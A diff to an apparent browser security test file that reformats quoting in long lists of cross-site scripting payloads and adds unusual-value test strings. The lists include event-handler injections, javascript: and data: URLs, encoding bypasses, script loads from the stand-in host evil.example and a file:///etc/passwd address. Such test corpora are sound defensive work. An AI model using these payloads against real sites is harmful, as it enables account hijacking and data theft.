@@ -15,27 +15,27 @@ from tests.browser.service import Site
 ACT = "window.struck=1,alert(1)"  # what a payload that worked would do
 TAGS = (
     "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script src=data:text/javascript,{}></script>",
-    "<img src=x onerror={}>", "<img src=x onerror=\"{}\">", "<IMG SRC=x ONERROR={}>", "<img/src=x/onerror={}>", "<img src='x' onerror='{}'>",
+    "<img src=x onerror={}>", '<img src=x onerror="{}">', "<IMG SRC=x ONERROR={}>", "<img/src=x/onerror={}>", "<img src='x' onerror='{}'>",
     "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={} attributeName=x>",
-    "<svg><a xlink:href=\"javascript:{}\"><text y=20>x</text></a></svg>", "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
+    '<svg><a xlink:href="javascript:{}"><text y=20>x</text></a></svg>', "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
     "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{}</script></svg>#x\"></svg>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<math href=\"javascript:{}\">x</math>",
-    "<body onload={}>", "<body onpageshow={}>", "<iframe src=\"javascript:{}\"></iframe>", "<iframe srcdoc=\"<script>{}</script>\"></iframe>",
-    "<object data=\"javascript:{}\"></object>", "<embed src=\"javascript:{}\">", "<link rel=stylesheet href=\"javascript:{}\">", "<link rel=import href=//evil.example>",
-    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<base href=\"javascript:{}//\">", "<form action=\"javascript:{}\"><button>x</button></form>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>", '<math href="javascript:{}">x</math>',
+    "<body onload={}>", "<body onpageshow={}>", '<iframe src="javascript:{}"></iframe>', '<iframe srcdoc="<script>{}</script>"></iframe>',
+    '<object data="javascript:{}"></object>', '<embed src="javascript:{}">', '<link rel=stylesheet href="javascript:{}">', "<link rel=import href=//evil.example>",
+    '<meta http-equiv=refresh content="0;url=javascript:{}">', '<base href="javascript:{}//">', '<form action="javascript:{}"><button>x</button></form>',
     "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<video src=x onerror={}></video>", "<video><source onerror={}></video>",
-    "<audio src=x onerror={}>", "<details open ontoggle={}>x</details>", "<marquee onstart={}>x</marquee>", "<div onmouseover={}>x</div>", "<div style=\"animation-name:x\" onanimationstart={}>",
-    "<style>@import 'javascript:{}';</style>", "<style>*{background:url(javascript:1)}</style>", "<div style=\"background:url(javascript:{})\">", "<a href=\"javascript:{}\">x</a>",
-    "<a href=\"&#106;avascript:{}\">x</a>", "<a href=\"java\tscript:{}\">x</a>", "<a href=\" javascript:{}\">x</a>", "<a href='vbscript:{}'>x</a>", "<a href=\"data:text/html,<script>{}</script>\">x</a>",
-    "<a href=x id=location>x</a>", "<img name=getElementById>", "<form id=card><input name=focus></form>", "<template><script>{}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
-    "<!--<img src=\"--><img src=x onerror={}>\">", "<![CDATA[<script>{}</script>]]>", "<?xml version=\"1.0\"?><script>{}</script>", "<isindex type=image src=1 onerror={}>", "<x onclick={} tabindex=1 id=x>x</x>",
+    "<audio src=x onerror={}>", "<details open ontoggle={}>x</details>", "<marquee onstart={}>x</marquee>", "<div onmouseover={}>x</div>", '<div style="animation-name:x" onanimationstart={}>',
+    "<style>@import 'javascript:{}';</style>", "<style>*{background:url(javascript:1)}</style>", '<div style="background:url(javascript:{})">', '<a href="javascript:{}">x</a>',
+    '<a href="&#106;avascript:{}">x</a>', '<a href="java\tscript:{}">x</a>', '<a href=" javascript:{}">x</a>', "<a href='vbscript:{}'>x</a>", '<a href="data:text/html,<script>{}</script>">x</a>',
+    "<a href=x id=location>x</a>", "<img name=getElementById>", "<form id=card><input name=focus></form>", "<template><script>{}</script></template>", '<noscript><p title="</noscript><img src=x onerror={}>">',
+    '<!--<img src="--><img src=x onerror={}>">', "<![CDATA[<script>{}</script>]]>", '<?xml version="1.0"?><script>{}</script>', "<isindex type=image src=1 onerror={}>", "<x onclick={} tabindex=1 id=x>x</x>",
     "<button popovertarget=x onbeforetoggle={}>x</button>", "<dialog open onclose={}>x</dialog>", "<plaintext>", "<xmp><script>{}</script></xmp>", "<listing>&lt;img src=x onerror={}&gt;</listing>",
-    "<keygen autofocus onfocus={}>", "<portal src=\"javascript:{}\">", "<slot onslotchange={}>", "<custom-element onclick={}>", "<frameset onload={}>", "<applet code=x onerror={}>",
+    "<keygen autofocus onfocus={}>", '<portal src="javascript:{}">', "<slot onslotchange={}>", "<custom-element onclick={}>", "<frameset onload={}>", "<applet code=x onerror={}>",
 )  # fmt: skip
 BREAKS = (
-    "\"><script>{}</script>", "'><script>{}</script>", "\" onfocus={} autofocus x=\"", "' onfocus={} autofocus x='", "` onfocus={} autofocus x=`", "\"><img src=x onerror={}>", "'\"><svg/onload={}>",
-    "</title><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>", "</script><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "*/{}/*", "\\\"-{}//", "\\'-{}//",
-    "';{}//", "\";{}//", "`;{}//", "${{{}}}", "</option></select><img src=x onerror={}>", "</mark><img src=x onerror={}>", "</bdi><script>{}</script>", "\n<script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
+    '"><script>{}</script>', "'><script>{}</script>", '" onfocus={} autofocus x="', "' onfocus={} autofocus x='", "` onfocus={} autofocus x=`", '"><img src=x onerror={}>', "'\"><svg/onload={}>",
+    "</title><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>", "</script><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "*/{}/*", '\\"-{}//', "\\'-{}//",
+    "';{}//", '";{}//', "`;{}//", "${{{}}}", "</option></select><img src=x onerror={}>", "</mark><img src=x onerror={}>", "</bdi><script>{}</script>", "\n<script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
     "%3Cscript%3E{}%3C/script%3E", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\\x3cscript\\x3e{}\\x3c/script\\x3e", "+ADw-script+AD4-{}+ADw-/script+AD4-", "＜script＞{}＜/script＞", "<\u200bscript>{}</script>", "<scr\u00adipt>{}</script>", "‮>tpircs/<{}>tpircs<",
 )  # fmt: skip
 TEMPLATES = (
@@ -43,9 +43,17 @@ TEMPLATES = (
 )  # fmt: skip
 ADDRESSES = (
     "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", " javascript:{}", "javascript://news.example/%0a{}", "vbscript:{}", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "blob:null/1", "file:///etc/passwd",
-    "https://x.example/\"onclick={}", "https://x.example/'><script>{}</script>", "https://user:pass@x.example/", "//evil.example/x", "http://[::1]:{}", "www.x.example/<script>{}</script>",
+    'https://x.example/"onclick={}', "https://x.example/'><script>{}</script>", "https://user:pass@x.example/", "//evil.example/x", "http://[::1]:{}", "www.x.example/<script>{}</script>",
 )  # fmt: skip
 SHAPES = (
+    "null",
+    "undefined",
+    "NaN",
+    "[object Object]",
+    "hasOwnProperty",
+    "\u2066x\u2069",
+    "\u0001\u0002",
+    "a\u0301" * 60,
     "__proto__",
     "constructor",
     "toString",
